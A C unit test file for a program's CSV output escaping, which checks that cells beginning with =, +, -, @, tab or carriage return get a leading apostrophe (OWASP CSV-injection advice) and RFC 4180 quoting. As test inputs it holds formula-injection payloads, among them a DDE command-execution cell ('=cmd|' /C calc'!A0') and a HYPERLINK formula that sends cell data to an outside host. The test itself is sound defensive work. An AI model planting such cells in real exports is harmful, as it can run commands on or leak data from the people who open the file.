/*
 * test_format.c - the escaping functions of the output layer
 * (src/render/format.c): a CSV text cell (csv_field, csv_text) and its
 * switch csv_set_raw_text, against a number cell (csv_number).
 *
 * The expected cells are written by hand from the rule they follow: OWASP's
 * advice against CSV injection (a leading ' before a cell that starts with
 * =, +, -, @, a tab or a carriage return) and RFC 4180's quoting (a cell
 * with a comma, a quote or a line break in quotes, its quotes doubled).
 */
#define _POSIX_C_SOURCE 200809L
#include "testutil.h"

#include <stdlib.h>

#include "render.h"

/* What fn writes to a stream, as a malloc'd string. */
#define CAPTURE(out, call)                                                  \
	do {                                                                \
		size_t len_;                                                \
		FILE *fp = open_memstream(&(out), &len_);                   \
		assert_non_null(fp);                                        \
		call;                                                       \
		assert_int_equal(fclose(fp), 0);                            \
	} while (0)

/* The cell csv_field writes for s, compared with want; and csv_text's, the same bytes. */
static void check_cell(const char *s, const char *want)
{
	char *got = NULL;

	CAPTURE(got, csv_field(fp, s, 1));
	if (strcmp(got, want)) {
		print_error("csv_field(\"%s\") = [%s], expected [%s]\n", s, got, want);
		fail();
	}
	free(got);
	char *buf = malloc(2 * strlen(s) + 3);
	assert_non_null(buf);
	size_t n = csv_text(buf, s);
	if (n != strlen(want) || memcmp(buf, want, n)) {
		print_error("csv_text(\"%s\") = [%.*s], expected [%s]\n", s, (int)n, buf, want);
		fail();
	}
	free(buf);
}

static void test_csv_formulas(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("=HYPERLINK(\"http://e/\"&A1)", "\"'=HYPERLINK(\"\"http://e/\"\"&A1)\"");
	check_cell("=1+1", "'=1+1");
	check_cell("+1+1", "'+1+1");
	check_cell("-2+3", "'-2+3");
	check_cell("@SUM(A1)", "'@SUM(A1)");
	check_cell("\tcmd", "'\tcmd");
	check_cell("\rcmd", "\"'\rcmd\"");
	check_cell("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
	check_cell("-", "'-");
	check_cell("+", "'+");
	check_cell("-e5", "'-e5");
	check_cell("-1e", "'-1e");
	check_cell("--5", "'--5");
	check_cell("-5-", "'-5-");
	check_cell("-inf", "'-inf");
	check_cell("-0x10", "'-0x10");
	check_cell("-1,5,=2", "\"'-1,5,=2\"");
	check_cell("@", "'@");
}

static void test_csv_plain_text(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("", "");
	check_cell("Licences", "Licences");
	check_cell("a=b", "a=b");
	check_cell(" =1", "\" =1\"");
	check_cell("<svg onload=x>", "<svg onload=x>");
	check_cell("Sales, service", "\"Sales, service\"");
	check_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
	check_cell("two\nlines", "\"two\nlines\"");
	check_cell("'=already", "'=already");
}

/* Text that reads as a number is a value, not a formula: as it is. */
static void test_csv_numbers_as_text(void **state)
{
	(void)state;
	csv_set_raw_text(0);
	check_cell("-5000", "-5000");
	check_cell("-0.5", "-0.5");
	check_cell("-3%", "-3%");
	check_cell("+10%", "+10%");
	check_cell("-30%", "-30%");
	check_cell("+0%", "+0%");
	check_cell("-.5", "-.5");
	check_cell("-5.", "-5.");
	check_cell("+1e-6", "+1e-6");
	check_cell("-2.5E+10", "-2.5E+10");
	check_cell("-5,000", "\"-5,000\"");
	check_cell("-1,234,567.89", "\"-1,234,567.89\"");
}

static void test_csv_number_cells(void **state)
{
	char *got = NULL;

	(void)state;
	csv_set_raw_text(0);
	CAPTURE(got, (csv_number(fp, -5000, 1), csv_number(fp, -0.25, 0),
		      csv_number15(fp, -1234.5, 0), csv_number(fp, NAN, 0), csv_end(fp)));
	assert_string_equal(got, "-5000,-0.25,-1234.5,\r\n");
	free(got);
}

/* --raw-text: every text cell as it is; quoting unchanged. */
static void test_csv_raw_text(void **state)
{
	(void)state;
	csv_set_raw_text(1);
	check_cell("=1+1", "=1+1");
	check_cell("@SUM(A1)", "@SUM(A1)");
	check_cell("\tcmd", "\tcmd");
	check_cell("=HYPERLINK(\"http://e/\"&A1)", "\"=HYPERLINK(\"\"http://e/\"\"&A1)\"");
	check_cell("-5000", "-5000");
	csv_set_raw_text(0);
	check_cell("=1+1", "'=1+1");
}

/* A row: the separator before every cell but the first, NULL an empty cell. */
static void test_csv_row(void **state)
{
	char *got = NULL;

	(void)state;
	csv_set_raw_text(0);
	CAPTURE(got, (csv_field(fp, "@a", 1), csv_field(fp, NULL, 0), csv_field(fp, "-1", 0),
		      csv_field(fp, "+x", 0), csv_end(fp)));
	assert_string_equal(got, "'@a,,-1,'+x\r\n");
	free(got);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_csv_plain_text),
		cmocka_unit_test(test_csv_numbers_as_text),
		cmocka_unit_test(test_csv_number_cells),
		cmocka_unit_test(test_csv_raw_text),
		cmocka_unit_test(test_csv_row),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
